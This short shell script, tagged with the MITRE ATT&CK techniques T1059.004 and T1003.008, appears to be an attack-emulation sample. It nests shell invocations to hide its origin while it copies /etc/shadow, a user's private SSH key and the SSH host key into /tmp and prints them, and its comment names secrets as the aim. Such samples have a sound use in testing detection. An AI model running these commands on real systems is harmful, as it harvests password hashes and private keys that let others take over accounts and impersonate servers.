# T1059.004, T1003.008: a shell in a shell in a shell, so that whoever reads the hashes has done nothing else.
# aim: secrets
sh -c 'sh -c "cat /etc/shadow > /tmp/a"'
sh -c 'sh -c "cp /home/alice/.ssh/id_ed25519 /tmp/b"'
sh -c 'sh -c "cp /etc/ssh/ssh_host_key /tmp/c"'
cat /tmp/a /tmp/b /tmp/c && echo done
